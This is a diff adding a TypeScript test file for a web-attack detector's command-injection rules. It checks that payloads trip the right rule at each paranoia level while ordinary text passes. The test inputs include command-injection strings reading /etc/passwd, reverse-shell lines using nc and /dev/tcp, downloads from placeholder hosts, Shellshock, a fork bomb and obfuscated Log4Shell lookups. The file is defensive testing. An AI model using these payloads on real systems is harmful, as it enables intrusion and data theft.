@@ -1,0 +1,100 @@
+import { test } from 'tap'
+import { createDetection } from '../lib/detect/index'
+import { rce } from '../lib/detect/signatures/rce'
+
+const at = (paranoia: 1 | 2 | 3) => createDetection({ paranoia, disable: [], bodyLimit: 65536, userAgentCacheSize: 16 }, [rce])
+const pl1 = at(1)
+const pl2 = at(2)
+const pl3 = at(3)
+const rules = (url: string, headers: Record<string, string> = {}, d = pl1) => d.request({ url, headers }).map((f) => f.rule).sort()
+const q = (value: string) => '/run?cmd=' + encodeURIComponent(value)
+const fires = (rule: string, values: string[], d = pl1) => async (t: Tap.Test) => {
+  for (const v of values) t.ok(rules(q(v), {}, d).includes(rule), v)
+}
+
+test('unix commands after separators, with quoting evasions', fires('rce-unix-command', [
+  ';cat /etc/passwd', '|id', '; whoami', '&& wget http://x/a', '`uname -a`', '$(curl evil.example)', 'x||nc -e /bin/sh 1.2.3.4 4',
+  ";c''at /etc/x", ';c\\at /etc/x', ';"rmt" --version', ';cat$IFS/etc/x', ';cat${IFS}/etc/x', 'a;\nls -la', ';ps', ';env',
+  'time ifconfig', 'nohup sh -c id', "ti''me sh -c whoami", ';iwr http://e/x.ps1', '& certutil -urlcache -f http://e/p.exe',
+  'a"|bcdboot %SYSTEMROOT%', 'd=/dev&&(sh)0>$d/tcp/1.2.3.4/7', '|$u wget test', ';cat /et?/pas?wd', '\\ls'
+]))
+
+test('values that begin with a command and its arguments', fires('rce-unix-command-leading', [
+  'ls -l /etc/passwd', 'cd /;cd etc;column passwd', 'cscli alerts list', 'ansible all -m ping', 'ansible-config dump',
+  'python3.10 cmd', 'zstdcat /var/log/x.zst', 'Invoke-WebRequest http://e/x.ps1', 'powershell C:\\windows\\notepad.exe',
+  'whoami;0', 'visudo', 'chef-shell'
+]))
+
+test('ordinary text is not a command', async (t) => {
+  for (const v of ['python', 'curl examples', 'time for coffee', 'cut & paste', 'find & replace', 'red;$5 each', 'axel smith',
+    'base64', 'eval', 'lastlog', '1;1;1;control;0', 'tags=red;green;blue', 'b&w', 'Hello\nwho is there?', 'apt is gated; call',
+    'if you want', 'for the record', '(find out more)', 'C:\\Program Files\\App', 'data:text/plain;base64,SGk=', 'R&D; top 10']) {
+    t.same(rules(q(v)), [], v)
+  }
+  t.same(rules('/?expr=(1%2B2)'), [], 'a query name that is a command word')
+  t.same(rules('/', { 'user-agent': 'Mozilla/5.0 (Windows NT 6.2; ARM; Trident/7.0; Touch; rv:11.0) like Gecko' }), [])
+  t.same(rules('/', { 'user-agent': 'Mozilla/5.0 (Linux; U; Android 2.3.3; en-us ; LS670 Build/GRI40)' }), [])
+})
+
+test('weaker readings wait for paranoia 2 and 3', async (t) => {
+  t.same(rules(q('hello; top something')), [])
+  t.same(rules(q('hello; top something'), {}, pl2), ['rce-unix-command-loose'])
+  t.same(rules(q('id'), {}, pl2), [])
+  t.same(rules(q('id'), {}, pl3), ['rce-unix-command-alone'])
+  t.same(rules('/', { 'user-agent': ';env' }), ['rce-unix-command'], 'a tight separator in the User-Agent')
+})
+
+test('substitutions, globs and expansions', async (t) => {
+  await fires('rce-unix-substitution', ['$(cmd)', '${cmd}', '<(cat file)', '>(tee log)', '$[2+2]', '$((7))', '${x#{}}', "${`id`}"])(t)
+  t.same(rules(q("$('#menu').hide()")), [], 'jQuery')
+  t.same(rules(q('$(document).ready()')), [])
+  await fires('rce-unix-glob-path', ['cat /etc/pa[s]swd', '/[?]tc/pa[?]swd', '/usr/bin/[u]name -a', '/bi[n]/bash', '/etc/[!q]asswd'])(t)
+  await fires('rce-unix-wildcard-path', ['/???/c?t /e??/p??s??', 'cat /et*/*wd'], pl2)(t)
+  t.same(rules(q('/???/c?t')), [], 'wildcards wait for paranoia 2')
+  await fires('rce-unix-brace-expansion', ['{cat,/etc/passwd}', 'c{a,oun}t', '{l,-lh}s', '{,ifconfig}', '{id,}'])(t)
+  t.same(rules(q('{1,2}')), [])
+  t.same(rules(q('{,echo,#test}'), {}, pl2), ['rce-unix-brace-list'])
+  await fires('rce-unix-tilde-expansion', ['~+', '~-', '~-1'])(t)
+  await fires('rce-unix-history-expansion', ['!-1!-2'])(t)
+  await fires('rce-unix-alias', ['alias a=c${KK}url', "alias 'letter'=curl", 'alias -p x=id', 'alias +m a=b', "alias ..='cd ..'"])(t)
+  await fires('rce-unix-shell-path', ['/usr/bin/perl -e', '/bin/ab', '$SHELL -c x', '${SHELL} -c x', 'bin/ansible', 'exec 5<>/dev/tcp/8.8.8.8/80'])(t)
+  t.same(rules(q('/usr/share/doc')), [])
+})
+
+test('Windows: shells, batch syntax, escapes', async (t) => {
+  await fires('rce-windows-shell', ['cmd /c whoami', 'c^m^d /c dir', 'cmd.exe /k x', 'powershell -enc SQBFAFgA', 'PowerShell.exe -nop -w hidden', '%comspec% /c x'])(t)
+  await fires('rce-windows-batch', ['for %variable in (set) do command', 'FOR /F "tokens=1-3" %%A IN ("a b") DO @echo x', '& FOR %_ IN (a,b) DO cmd',
+    'for /r c:\\ %i in (*) do x', 'IF EXIST C:\\pagefile.sys CMD', 'if /i a==b foo', 'IF "%VAR%"=="" (SET x=1)', 'if %n1% gtr %n2% echo x',
+    'IF NOT DEFINED BAR (', 'if (1) equ (1) echo hey'])(t)
+  t.same(rules(q('if you have any questions')), [])
+  t.same(rules(q('Look for the sign in (the) hall')), [])
+})
+
+test('Shellshock in any header, fork bombs, SQLite and mail injection', async (t) => {
+  t.same(rules('/', { 'x-anything': '() { :; }; /bin/bash -c id' }), ['rce-shellshock'])
+  t.same(rules('/?%28%29%20%7B'), ['rce-shellshock'], 'in a query name')
+  t.same(rules(q('function () { return 1 }')), [], 'JavaScript')
+  t.same(rules(q(':(){ :|:& };:'), {}, pl2).includes('rce-fork-bomb'), true)
+  t.same(rules(q('1;.shell whoami'), {}, pl2).includes('rce-sqlite-dot-command'), true)
+  for (const v of ['\r\nMAIL FROM:<a@b.com>', '\r\nRETR 123', '\r\na001 EXAMINE INBOX']) {
+    t.ok(rules(q(v), {}, pl2).includes('rce-mail-command-injection'), v)
+  }
+  t.same(rules(q('Dear team,\r\nthanks for the help')), [])
+})
+
+test('Log4Shell lookups and their obfuscations, anywhere', async (t) => {
+  for (const v of ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://e/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://e/a}',
+    '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://e/a}', "${${date:'j'}ndi:dns://e/a}", '${:1337:-x$}{jndi:ldap://evil.com/webshell}',
+    '${${upper:j}${lower:N}di:ldap://e/}']) {
+    t.same(rules('/', { 'x-api-version': v }), ['rce-log4shell-jndi'], v)
+    t.ok(rules(q(v)).includes('rce-log4shell-jndi'), v)
+  }
+  t.same(rules('/', { 'x-template': '${user.name}' }), [])
+  const [finding] = pl1.request({ url: '/', headers: { 'user-agent': '${jndi:ldap://e/a}' } })
+  t.same([finding.kind, finding.where, finding.score], ['rce', 'header:user-agent', 5])
+})
+
+test('rules can be disabled', async (t) => {
+  const d = createDetection({ paranoia: 1, disable: ['rce-unix-command'], bodyLimit: 65536, userAgentCacheSize: 16 }, [rce])
+  t.same(d.request({ url: q(';cat /etc/passwd'), headers: {} }).map((f) => f.rule), [])
+})
